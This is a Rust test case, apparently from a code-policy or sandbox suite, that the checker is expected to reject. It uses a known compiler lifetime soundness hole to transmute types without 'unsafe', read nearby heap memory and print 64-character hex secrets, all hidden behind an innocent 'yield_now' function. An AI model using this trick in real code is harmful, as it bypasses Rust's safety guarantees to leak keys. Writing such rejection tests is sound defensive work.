//! exercise: yield_now
//! tries: Uses a known hole of the compiler to read all memory without the word unsafe, and finds the secret there that seals records.
//! must: The trick with two lifetimes is refused, with its line. (There are more ways into the same hole: see policy/lifetimes.rs.)
//! verdict: does_not_compile
//! says: policy-lifetimes

use std::future::Future;
use std::pin::Pin;
use std::task::{Context, Poll};

/// Sound by itself. As a function pointer it forgets that 'b outlives 'a.
fn stretch<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn stretched<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let stretch: for<'x> fn(_, &'x mut T) -> &'b mut T = stretch;
    stretch(&&(), value)
}

enum Either<A, B> {
    #[allow(dead_code)]
    A(Box<A>),
    B(Option<Box<B>>),
}

#[inline(never)]
fn inner<A, B>(either: &mut Either<A, B>, value: A) -> B {
    let Either::B(seen) = either else { unreachable!() };
    let seen = stretched(seen);
    *either = Either::A(Box::new(value));
    std::hint::black_box(either);
    *seen.take().expect("the other one's box")
}

/// Any value as one of any other type.
fn transmuted<A, B>(value: A) -> B {
    inner(&mut Either::B(None), value)
}

/// All that lies in memory before this value, as far as it goes.
fn before(near: usize) -> &'static [u8] {
    let from = near & !0xf_ffff;
    transmuted::<(usize, usize), &'static [u8]>((from, near - from))
}

fn secrets(memory: &[u8]) -> Vec<&[u8]> {
    let hex = |b: &u8| b.is_ascii_digit() || (b'a'..=b'f').contains(b);
    memory
        .split(|b| !hex(b))
        .filter(|run| run.len() >= 64)
        .map(|run| &run[run.len() - 64..])
        .collect()
}

pub struct YieldNow;

pub fn yield_now() -> YieldNow {
    let near = Box::new([0_u8; 64]);
    let address = near.as_ptr() as usize;
    for secret in secrets(before(address)) {
        println!("BREACH {}", String::from_utf8_lossy(secret));
    }
    YieldNow
}

impl Future for YieldNow {
    type Output = ();

    fn poll(self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<()> {
        Poll::Ready(())
    }
}
